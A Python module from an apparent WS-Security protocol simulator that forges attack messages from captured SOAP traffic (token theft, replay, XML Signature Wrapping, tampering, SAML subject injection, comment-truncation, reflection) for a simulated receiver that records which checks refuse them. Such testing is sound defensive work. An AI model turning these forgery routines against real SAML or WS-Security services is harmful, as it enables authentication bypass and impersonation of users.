"""An adversary on a link, sans-I/O: from captured messages it forges the bytes of attacks
(its campaigns of many messages are ``campaigns.py``).

Attacks (the first four named by docs/architecture.md):

* ``steal-token``: a captured token presented by another client (a bearer assertion as is; a
  holder-of-key assertion or a security context with a key the attacker does not have);
* ``replay``: the same bytes again, to the same node;
* ``wrap``: XML Signature Wrapping (the signed Body moved into a header, a forged Body in
  its place);
* ``tamper``: one byte changed inside a protected value;
* ``saml-injection``: a second subject (name ``mallory``, and for holder-of-key the
  attacker's own key) placed inside the assertion's own ds:Signature, which the enveloped
  transform leaves out of the digest (a SAML 1.1 Signature moved first, where a reader that
  takes the first statement's subject looks); the message is then rebuilt around it (bearer),
  protected with the attacker's key (holder-of-key), or left as it was (sender-vouches,
  where the sender's signature covers the assertion);
* ``comment-truncation``: a comment inside a signed value, which exclusive C14N drops: in the
  request's payload where it travels in clear (a reader taking the first text node reads a
  shorter payload), else after its wsa:Action; and the captured response sent to the
  provider with ``Process<!---->Response`` as its Action (read as the request Action);
* ``reflection``: the captured request sent back to its sender as the reply it awaits, and
  the captured response sent to the provider as a request (with the request's tokens);
* ``cross-node-replay``: the captured request, once its receiver accepted it (the attacker
  sees its reply), to another node of the receiver's farm;
* ``replay-flood`` and ``padding-oracle``: campaigns of many messages, in
  ``sim/protocol/campaigns.py``.

The engine (``sim/engine/attacks.py``) delivers each :class:`Forgery` to the receiving engine
of the run and counts whether it was accepted or which check refused it.
"""

from __future__ import annotations

import copy
import functools
import os
from dataclasses import dataclass

from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from sim.protocol import protection as p
from sim.protocol.api import ATTACK_NAMES
from sim.protocol.base import APP_ACTION, PROVIDER_ADDRESS
from sim.wire import ns, saml, sc, soap, wss, xenc
from sim.wire.ledger import NullLedger
from sim.wire.ns import Confirmation, ValueType
from sim.wire.suites import AlgorithmSuite
from sim.wire.xmlparse import parse
from sim.wire.xmlutil import fragment

ATTACKS = ATTACK_NAMES
#: attacks that forge once the captured request's response has passed
RESPONSE_ATTACKS = frozenset({"comment-truncation", "reflection", "cross-node-replay"})
#: attacks whose forgeries go to a copy of the receiver (``Forgery.isolated``)
ISOLATED_ATTACKS = frozenset({"saml-injection", "comment-truncation", "reflection"})
#: attacks that send many messages, run by the engine on their own (``flood``, PaddingOracle)
CAMPAIGNS = ("replay-flood", "padding-oracle")

FORGED_PAYLOAD = b"transfer everything to mallory"
INJECTED_SUBJECT = "mallory"

#: where a forgery goes: the captured request's receiver, another node of its farm, or the
#: request's sender (as the reply it awaits)
RECEIVER, PEER, SENDER = "receiver", "peer", "sender"


@dataclass(frozen=True)
class Capture:
    """What the attacker saw on the link: a request and, once it passed, its response."""

    request: bytes
    now: float
    response: bytes | None = None


@dataclass(frozen=True)
class Knowledge:
    """What is public about the attacked service: the provider's certificate and the
    algorithm suite of its policy."""

    provider_certificate: object | None = None
    suite: AlgorithmSuite = p.DEFAULT_SUITE


@dataclass(frozen=True)
class Forgery:
    """One forged message and where it goes."""

    data: bytes
    to: str = RECEIVER
    #: sent in place of the captured message, which the attacker held back: delivered to
    #: the receiver as it was when the captured message arrived (a copy of it), so that
    #: neither the original's traces (its replay-cache entry) nor another forgery refuse it
    isolated: bool = False


def forge(attack: str, capture: Capture, knowledge: Knowledge | None = None) -> list[Forgery]:
    """The forgeries of ``attack`` (not a campaign) from ``capture``; none when it does not
    apply (no token to steal or to inject into)."""
    knowledge = knowledge or Knowledge()
    request = capture.request
    if attack == "replay":
        return [Forgery(request)]
    if attack == "cross-node-replay":
        # a request its receiver refused was never in a replay store: only accepted ones
        return [] if capture.response is None else [Forgery(request, PEER)]
    if attack == "tamper":
        return [Forgery(_tamper(request))]
    if attack == "wrap":
        return [Forgery(_wrap(request))]
    if attack == "steal-token":
        stolen = _steal(request, capture.now)
        return [] if stolen is None else [Forgery(stolen)]
    if attack == "saml-injection":
        return _saml_injection(capture, knowledge)
    if attack == "comment-truncation":
        return _comment_truncation(capture)
    if attack == "reflection":
        return _reflection(capture)
    if attack in CAMPAIGNS:
        raise ValueError(f"{attack} is a campaign: see sim/protocol/campaigns.py")
    raise ValueError(f"unknown attack {attack!r}; known: {', '.join(ATTACKS)}")


# --- the first four ------------------------------------------------------------------------


def _tamper(data: bytes) -> bytes:
    for marker in (b"SignatureValue>", b"CipherValue>", b"DigestValue>", b"Payload>"):
        index = data.find(marker)
        while index >= 0:
            opening = data.rfind(b"<", 0, index)
            if data[opening + 1 : opening + 2] != b"/":
                position = index + len(marker) + 4
                flipped = b"A" if data[position : position + 1] != b"A" else b"B"
                return data[:position] + flipped + data[position + 1 :]
            index = data.find(marker, index + 1)
    return data[:-20] + b"X" + data[-19:]


def _wrap(data: bytes) -> bytes:
    root = parse(data)
    envelope_ns = etree.QName(root).namespace
    header = root.find(f"{{{envelope_ns}}}Header")
    body = root.find(f"{{{envelope_ns}}}Body")
    if header is None or body is None:
        return data
    forged = etree.Element(body.tag, nsmap=body.nsmap)
    holder = etree.SubElement(forged, ns.qname(ns.APP, "Request"), nsmap={"app": ns.APP})
    etree.SubElement(holder, p.PAYLOAD).text = p.b64(FORGED_PAYLOAD)
    root.replace(body, forged)
    wrapper = etree.SubElement(header, ns.qname(ns.APP, "Wrapper"), nsmap={"app": ns.APP})
    wrapper.append(body)  # the signed original, still resolvable by its Id
    return etree.tostring(root)


def _app_envelope() -> soap.Envelope:
    envelope = soap.new_envelope()
    soap.add_addressing(envelope, action=APP_ACTION, to=PROVIDER_ADDRESS)
    p.put_payload(envelope, FORGED_PAYLOAD)
    return envelope


def _steal(data: bytes, now: float) -> bytes | None:
    root = parse(data)
    assertion = next(root.iter(saml.ASSERTION2, saml.ASSERTION1), None)
    sct_reference = _context_reference(root)
    if assertion is None and sct_reference is None:
        return None
    envelope = _app_envelope()
    guessed_key = os.urandom(32)  # the attacker has the token, not its key
    if assertion is not None:
        if _confirmation(assertion) is Confirmation.BEARER:
            security, _ = p.security_header(envelope, now)
            security.append(assertion)
            return envelope.to_bytes()
        return p.protect_symmetric(
            envelope,
            secret=guessed_key,
            source_reference=lambda: _assertion_reference(assertion),
            now=now,
            ledger=NullLedger(),
            tokens=[assertion],
        )
    identifier = sct_reference
    return p.protect_symmetric(
        envelope,
        secret=guessed_key,
        source_reference=lambda: wss.str_reference_text(identifier, ValueType.SCT.value),
        now=now,
        ledger=NullLedger(),
    )


def _context_reference(root) -> str | None:
    for reference in root.iter(ns.qname(ns.WSSE, "Reference")):
        if reference.get("ValueType") == ValueType.SCT.value:
            return reference.get("URI")
    return None


# --- SAML injection -----------------------------------------------------------------------

_DS_SIGNATURE = ns.qname(ns.DS, "Signature")
_DS_KEYINFO = ns.qname(ns.DS, "KeyInfo")
_SAML1_METHODS = {uri: method for method, uri in ns.SAML1_CONFIRMATION.items()}


def _confirmation(assertion: etree._Element) -> Confirmation | None:
    """The confirmation method the assertion's (first) subject names."""
    if assertion.tag == saml.ASSERTION2:
        found = assertion.find(f".//{{{ns.SAML2}}}SubjectConfirmation")
        method = None if found is None else found.get("Method")
        return next((c for c in Confirmation if c.value == method), None)
    found = assertion.find(f".//{{{ns.SAML1}}}ConfirmationMethod")
    return None if found is None else _SAML1_METHODS.get((found.text or "").strip())


def _assertion_reference(assertion: etree._Element) -> etree._Element:
    """The STR by which a message's key names ``assertion``, which it carries (as the
    holder's own messages name it)."""
    return saml.assertion_reference(saml.assertion_id(assertion), saml.assertion_version(assertion))


@functools.cache
def _attacker_key() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key pair (made once)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _key_value(public_key: rsa.RSAPublicKey) -> etree._Element:
    """A ds:KeyInfo holding ``public_key`` (the attacker's), as a subject's key."""
    key_info = etree.Element(_DS_KEYINFO, nsmap={"ds": ns.DS})
    key_info.append(saml.key_value(public_key))
    return key_info


def _inject(assertion: etree._Element, key_info: etree._Element | None) -> bool:
    """Put a copy of the assertion's subject, naming ``INJECTED_SUBJECT`` (and holding
    ``key_info`` instead of its key), inside the assertion's ds:Signature; False when the
    assertion has no signature or subject (or no key to replace)."""
    namespace = ns.SAML2 if assertion.tag == saml.ASSERTION2 else ns.SAML1
    signature = next(assertion.iterchildren(_DS_SIGNATURE), None)
    original = assertion.find(f".//{{{namespace}}}Subject")
    if signature is None or original is None:
        return False
    subject = copy.deepcopy(original)
    for name in subject.iter(ns.qname(namespace, "NameID"), ns.qname(namespace, "NameIdentifier")):
        name.text = INJECTED_SUBJECT
        for child in list(name):
            name.remove(child)
    if key_info is not None:
        holder = next(subject.iter(_DS_KEYINFO), None)
        if holder is None:
            return False
        holder.getparent().replace(holder, key_info)
    if namespace == ns.SAML1:
        # A SAML 1.1 Signature comes last, and a reader that takes the first statement's
        # subject would not reach it: moved first (the enveloped transform takes it out of
        # the digest wherever it stands), it is that first "statement".
        assertion.remove(signature)
        assertion.insert(0, signature)
    signature.append(subject)
    return True


def _saml_injection(capture: Capture, knowledge: Knowledge) -> list[Forgery]:
    root = parse(capture.request)
    assertion = next(root.iter(saml.ASSERTION2, saml.ASSERTION1), None)
    if assertion is None:
        return []
    confirmation = _confirmation(assertion)
    now = capture.now
    if confirmation is Confirmation.BEARER:
        if not _inject(assertion, None):
            return []
        envelope = _app_envelope()
        security, _ = p.security_header(envelope, now)
        security.append(assertion)
        return [Forgery(envelope.to_bytes(), isolated=True)]
    if confirmation is Confirmation.HOLDER_OF_KEY:
        original = next(assertion.iter(xenc.ENCRYPTED_KEY), None)
        if original is not None:  # a symmetric proof key, encrypted for the provider
            if knowledge.provider_certificate is None:
                return []
            key = os.urandom(32)
            names = original.find(_DS_KEYINFO)
            key_info = etree.Element(_DS_KEYINFO, nsmap={"ds": ns.DS})
            key_info.append(
                fragment(
                    xenc.encrypted_key_text(
                        key,
                        knowledge.provider_certificate.public_key(),
                        key_info=None
                        if names is None or not len(names)
                        else etree.tostring(names[0]).decode(),
                    )[0]
                )
            )
            if not _inject(assertion, key_info):
                return []
            data = p.protect_symmetric(
                _app_envelope(),
                secret=key,
                source_reference=lambda: _assertion_reference(assertion),
                now=now,
                ledger=NullLedger(),
                suite_=knowledge.suite,
                tokens=[assertion],
            )
            return [Forgery(data, isolated=True)]
        attacker = _attacker_key()
        if not _inject(assertion, _key_value(attacker.public_key())):
            return []
        data = p.protect_asymmetric(
            _app_envelope(),
            sender=None,  # signed with the attacker's key, named through the assertion
            recipient=None,
            now=now,
            ledger=NullLedger(),
            suite_=knowledge.suite,
            tokens=[assertion],
            signing_key=attacker,
            key_info=_assertion_reference(assertion),
        )
        return [Forgery(data, isolated=True)]
    # sender-vouches: the sender signs the message (and the assertion with it): in place
    if not _inject(assertion, None):
        return []
    return [Forgery(etree.tostring(root), isolated=True)]


# --- comments, reflection -----------------------------------------------------------------

_ACTION = ns.qname(ns.WSA, "Action")
_TOKENS = frozenset(
    {saml.ASSERTION1, saml.ASSERTION2, wss.USERNAME_TOKEN, wss.BINARY_SECURITY_TOKEN, sc.SCT}
)


def _split_with_comment(element: etree._Element, at: int) -> None:
    """Put an empty comment into ``element``'s text at ``at`` (C14N without comments, and
    so the signature, sees the same text)."""
    text = element.text or ""
    comment = etree.Comment("")
    comment.tail = text[at:] or None
    element.text = text[:at]
    element.insert(0, comment)


def _header(root: etree._Element) -> etree._Element | None:
    return root.find(f"{{{etree.QName(root).namespace}}}Header")


def _comment_truncation(capture: Capture) -> list[Forgery]:
    root = parse(capture.request)
    payload = next(root.iter(p.PAYLOAD), None)
    text = None if payload is None or len(payload) else (payload.text or "")
    if text and len(text) >= 8:
        # cut at a multiple of four: the first text node is valid base64 of a shorter payload
        _split_with_comment(payload, len(text) // 8 * 4)
    else:  # the payload travels encrypted: the comment goes into the Action's value
        header = _header(root)
        action = None if header is None else next(header.iterchildren(_ACTION), None)
        if action is None:
            return []
        _split_with_comment(action, len(action.text or ""))
    forgeries = [Forgery(etree.tostring(root), isolated=True)]
    reflected = _reflected_response(capture, comment=True)
    if reflected is not None:
        forgeries.append(Forgery(reflected, isolated=True))
    return forgeries


def _reflected_response(capture: Capture, *, comment: bool) -> bytes | None:
    """The captured response as a request to the provider, carrying copies of the request's
    tokens (the keys of the response derive from them); with ``comment``, its Action split
    by a comment after the request Action (``Process<!---->Response``)."""
    if capture.response is None:
        return None
    root = parse(capture.response)
    header = _header(root)
    action = None if header is None else next(header.iterchildren(_ACTION), None)
    security = None if header is None else next(header.iterchildren(wss.SECURITY), None)
    if action is None or security is None:
        return None
    if comment:
        value = action.text or ""
        if not value.startswith(APP_ACTION) or value == APP_ACTION:
            return None
        _split_with_comment(action, len(APP_ACTION))
    request_header = _header(parse(capture.request))
    request_security = (
        None if request_header is None else next(request_header.iterchildren(wss.SECURITY), None)
    )
    present = {child.tag for child in security}
    tokens = [
        copy.deepcopy(child)
        for child in (request_security if request_security is not None else ())
        if child.tag in _TOKENS and child.tag not in present
    ]
    position = 1 if len(security) and security[0].tag == wss.TIMESTAMP else 0
    for token in reversed(tokens):
        security.insert(position, token)
    return etree.tostring(root)


def _reflection(capture: Capture) -> list[Forgery]:
    forgeries = [Forgery(capture.request, SENDER, isolated=True)]
    reflected = _reflected_response(capture, comment=False)
    if reflected is not None:
        forgeries.append(Forgery(reflected, isolated=True))
    return forgeries
